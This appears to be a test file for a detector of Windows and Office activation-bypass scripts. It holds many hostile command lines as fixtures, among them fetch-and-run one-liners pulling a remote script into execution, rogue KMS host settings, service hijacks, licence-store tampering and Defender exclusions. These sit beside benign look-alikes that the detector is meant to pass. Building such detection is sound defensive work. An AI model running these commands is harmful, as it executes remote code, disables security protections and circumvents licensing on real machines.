// Signs of activation in scripts and command lines, and the honest ones that look like them.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { activationSigns } from '../../../formats/activation-script/signs.ts';
import { normaliseCommand, normaliseScript, type ScriptLanguage } from '../../../formats/script/normalise.ts';

const ALLOWED = ['kms.corp.example', '10.1.2.3:1700'];
const SITE = ['get.activated', 'win'].join('.');
const signs = (text: string, language: ScriptLanguage = 'batch') =>
  activationSigns(normaliseScript(new TextEncoder().encode(text), language), ALLOWED);
const strengths = (text: string, language: ScriptLanguage = 'batch') => signs(text, language).map(({ strength }) => strength);

for (const [name, text, strength] of [
  ['fetched and run', `powershell -c "irm https://${SITE} | iex"`, 'certain'],
  ['fetched another way', `curl -o x.cmd https://mass${''}grave.dev/get\r\ncall x.cmd`, 'certain'],
  ['a switch for a fetched text', '[ScriptBlock]::Create((irm https://x.example/get)) /HWID', 'certain'],
  [
    'a hijack of the service',
    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\SppExtComObj.exe" /f',
    'certain',
  ],
  ['settings of a hook', 'set k=osppsvc.exe\r\nreg add %x% /v VerifierDlls /d a.dll', 'certain'],
  ['a link for a hook', `mklink "%O%\\spp${''}cs.dll" C:\\Windows\\System32\\sppc.dll`, 'certain'],
  ['tickets', 'clipup.exe -v -o -altto x', 'strong'],
  ['a reset of the licence', 'rundll32 clipc.dll,ClipCleanUpState', 'strong'],
  ['a ticket put in place', 'copy /y t.xml "C:\\ProgramData\\Microsoft\\Windows\\ClipSVC\\GenuineTicket\\"', 'strong'],
  ['another host', 'cscript slmgr.vbs /skms kms.evil.example:1688', 'strong'],
  ['a host of strangers', 'slmgr /skms kms8.msguides.com', 'certain'],
  ['the machine itself', 'cscript "C:\\Windows\\system32\\slmgr.vbs" -skms 127.0.0.2', 'certain'],
  ['Office', 'cscript ospp.vbs /sethst:kms.evil.example', 'strong'],
  [
    'WMI',
    'wmic path SoftwareLicensingService where version="1" call SetKeyManagementServiceMachine MachineName="kms.evil.example"',
    'strong',
  ],
  ['the registry', 'reg add HKLM\\x /v KeyManagementServiceName /t REG_SZ /d kms.evil.example /f', 'strong'],
  ['an allowed host on another port', 'slmgr /skms 10.1.2.3:1688', 'strong'],
  ['a host of a cloud', 'slmgr /skms kms.core.windows.net:1688', 'weak'],
  ['the port redirected', 'netsh interface portproxy add v4tov4 listenport=1688 connectaddress=10.9.9.9 connectport=1688', 'strong'],
  ['the port opened', 'netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=1688', 'strong'],
  ['the port redirected in the registry', 'reg add HKLM\\SYSTEM\\x\\PortProxy\\v4tov4\\tcp /v 10.0.0.9/1688 /d 127.0.0.1/1688', 'strong'],
  ['the port redirected in short words', 'netsh int portproxy set v4tov4 listenport=1688 connectaddress=127.0.0.1', 'strong'],
  [
    'the port opened in the registry',
    'reg add HKLM\\x\\FirewallRules /v a /d "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=1688|"',
    'strong',
  ],
  ['a service told the port', 'sc create Relay binPath= "C:\\relay.exe -p 1688" start= auto', 'strong'],
  ['a service told the port in PowerShell', 'New-Service -Name Relay -BinaryPathName "C:\\relay.exe --port=1688"', 'strong'],
  ['a task told the port', 'schtasks /create /tn x /tr "C:\\relay.exe 0.0.0.0:1688" /sc onstart', 'strong'],
  ['a monitor for the service', 'reg add "HKLM\\x\\SilentProcessExit\\sppsvc.exe" /v MonitorProcess /d x.exe', 'certain'],
  ['a policy for names', 'powershell Add-DnsClientNrptRule -Namespace ".sls.microsoft.com" -NameServers 10.0.0.1', 'strong'],
  ['a policy for names in the registry', 'reg add HKLM\\x\\DnsPolicyConfig\\y /v Name /d licensing.mp.microsoft.com', 'strong'],
  ['Defender kept from a drive', 'powershell Add-MpPreference -ExclusionPath "C:\\"', 'strong'],
  ['Defender kept from the drive of Windows', 'powershell Set-MpPreference -Force -ExclusionPath $env:SystemDrive', 'strong'],
  [
    'Defender kept from a drive in the registry',
    'reg add "HKLM\\x\\Windows Defender\\Exclusions\\Paths" /v C:\\ /t REG_DWORD /d 0',
    'strong',
  ],
  ['Defender kept from a name in the registry', 'reg add "HKLM\\x\\Windows Defender\\Exclusions\\Processes" /v KMSx.exe /d 0', 'strong'],
  ['a threat allowed', 'Add-MpPreference -ThreatIDDefaultAction_Ids 1 -ThreatIDDefaultAction_Actions Allow', 'strong'],
  ['a threat allowed in the registry', 'reg add "HKLM\\x\\Threats\\ThreatIDDefaultAction" /v 2147685180 /t REG_SZ /d 6 /f', 'strong'],
  ['names led astray', 'echo 0.0.0.0 activation-v2.sls.microsoft.com>>%windir%\\system32\\drivers\\etc\\hosts', 'strong'],
  ['Defender told to look away', 'powershell Add-MpPreference -ExclusionPath "C:\\ProgramData\\KMSx"', 'strong'],
  ['another licence store', 'copy /y %~dp0data.dat C:\\Windows\\System32\\spp\\store\\2.0\\data.dat', 'strong'],
  ['a whole store', 'powershell Copy-Item .\\x\\* "$env:windir\\System32\\spp\\store\\2.0\\" -Force', 'strong'],
  ['one switch', 'call x.cmd /HWID', 'weak'],
  ['two switches', 'call x.cmd /HWID /Ohook', 'strong'],
  ['a hidden script', 's%a%l%b%m%c%g%d%r '.repeat(6), 'strong'],
  ['a label of an activator', ':embdbin:\r\nxxx', 'strong'],
] as const) {
  test(name, () => assert.ok(strengths(text).includes(strength), JSON.stringify(signs(text))));
}

test('VBScript and PowerShell set hosts in their own ways', () => {
  assert.equal(strengths('svc.SetKeyManagementServiceMachine("kms.evil" & ".example")', 'vbscript'), ['strong']);
  assert.equal(strengths('For Each x In s\nx.SetKeyManagementServiceMachine "kms.evil.example"\nNext', 'vbscript'), ['strong']);
  assert.equal(strengths('sh.RegWrite "HKLM\\x\\KeyManagementServiceName", "127.0.0.1"', 'vbscript'), ['certain']);
  assert.equal(strengths("Set-ItemProperty $k -Name KeyManagementServiceName -Value 'kms.evil.example'", 'powershell'), ['strong']);
});

for (const [name, text] of [
  ['an allowed host', 'slmgr /skms kms.corp.example & slmgr /ato'],
  ['an allowed host with its port', 'cscript slmgr.vbs /skms KMS.Corp.Example.:1688'],
  ['a parameter', 'slmgr /skms %1 & slmgr /skms %KMSHOST%\r\nset /p KMSHOST=Host?'],
  ['the host taken away', 'slmgr /ckms & slmgr /ato & slmgr /dlv'],
  ['a switch of something else', 'tool.exe /z /k /revision'],
  ['an exclusion for a database', 'powershell Add-MpPreference -ExclusionPath D:\\SQL'],
  ['hosts for a test server', 'echo 127.0.0.1 dev.example>>%windir%\\system32\\drivers\\etc\\hosts'],
  ['an exclusion of a folder of a drive', 'powershell Add-MpPreference -ExclusionPath C:\\Build, D:\\Build'],
  ['a threat that is removed', 'Add-MpPreference -ThreatIDDefaultAction_Ids 1 -ThreatIDDefaultAction_Actions Remove'],
  ['a threat that is removed by its number', 'reg add "HKLM\\x\\Threats\\ThreatIDDefaultAction" /v 2147685180 /t REG_SZ /d 2 /f'],
  ['a service with a number', 'sc create Agent binPath= "C:\\agent.exe --id 16881 --n 1.1688.2"'],
  ['a policy for the own domain', 'Add-DnsClientNrptRule -Namespace ".corp.example" -NameServers 10.0.0.1'],
  [
    'the built-in rule for a host of activation',
    'reg add HKLM\\x\\FirewallRules /v SPPSVC-In-TCP /d "v2.10|Action=Allow|Active=TRUE|Dir=In|LPort=1688|"',
  ],
  ['another port', 'netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=3389'],
  ['a debugger for another program', 'reg add "HKLM\\x\\Image File Execution Options\\taskmgr.exe" /v Debugger /d procexp.exe'],
  ['the site in a comment without a fetch', `rem see ${SITE}`],
] as const) {
  test(`${name} is no sign`, () => assert.equal(strengths(text), [], JSON.stringify(signs(text))));
}

test('PowerShell with a parameter, and a query that names the property, are no sign', () => {
  assert.equal(strengths('param($KmsHost)\ncscript slmgr.vbs /skms $KmsHost', 'powershell'), []);
  const query = '"SELECT KeyManagementServiceName, KeyManagementServicePort FROM x"\nsvc.SetKeyManagementServiceMachine(strName)';
  assert.equal(strengths(query, 'vbscript'), []);
});

test('a sign tells its command, its word and where it stands', () => {
  const [sign] = signs('@echo off\r\ncscript slmgr.vbs /skms kms.evil.example >nul');
  assert.is(sign?.command, 'cscript slmgr.vbs /skms kms.evil.example >nul');
  assert.is(sign?.word, 'kms.evil.example');
  assert.is(sign?.offset, 19);
  assert.match(sign?.what ?? '', /sends activation to kms\.evil\.example, a host that the image may not use/);
});

test('a program in coded form is a sign in a batch file, not in PowerShell', () => {
  const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(900, 'x')]).toString('base64');
  assert.equal(strengths(`echo ${program}>x.b64`), ['strong']);
  assert.equal(strengths(`$dll = '${program}'`, 'powershell'), []);
});

test('a command line has the signs of a script', () => {
  assert.equal(activationSigns(normaliseCommand('cmd /c sl^mgr /skms kms.evil.example && slmgr /ato'), []).length, 1);
});

// Each would not end in the life of a machine if an expression began anew at every letter or word.
test('long lines of the same words are read once', () => {
  const long = (unit: string) => unit.repeat(100_000);
  for (const text of [
    `${' '.repeat(1_000_000)}x`,
    '\n'.repeat(200_000),
    `curl ${long('a.')}`,
    long('copy /'),
    long('copy /a '),
    `copy ${' '.repeat(1_000_000)}x`,
    `[scriptblock]::create()${' '.repeat(1_000_000)}x`,
    long('slmgr '),
  ])
    assert.equal(signs(text, 'powershell'), [], text.slice(0, 20));
  assert.is(signs(`sppsvc.exe ${long('verifierdlls ')}`)[0]?.command.length, 411);
});

test.run();
